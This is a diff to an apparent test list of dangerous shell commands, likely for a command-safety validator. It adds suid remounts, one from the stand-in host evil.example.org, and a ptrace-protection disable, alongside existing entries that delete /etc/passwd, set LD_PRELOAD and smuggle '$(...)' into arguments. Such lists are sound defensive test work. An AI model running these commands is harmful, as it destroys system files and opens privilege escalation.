@@ -24,6 +24,8 @@ OTHERS = (
         "sysctl -w 'net.core.rmem_max=$(touch x)'",
         "mpirun x",
     ),
+    *("umount / && mount -o suid evil.example.org:/x /", "umount /usr && mount -o bind,suid /tmp/x /usr"),
+    *("sysctl -w 'kernel.yama.ptrace_scope=0'", "sysctl -w 'vm.overcommit_memory=1'"),
     *("rm -f /etc/passwd", "export LD_PRELOAD=/x", "fio --exec_prerun=x", "tc qdisc del dev eth0 root|x", "# $(x)"),
 )
 
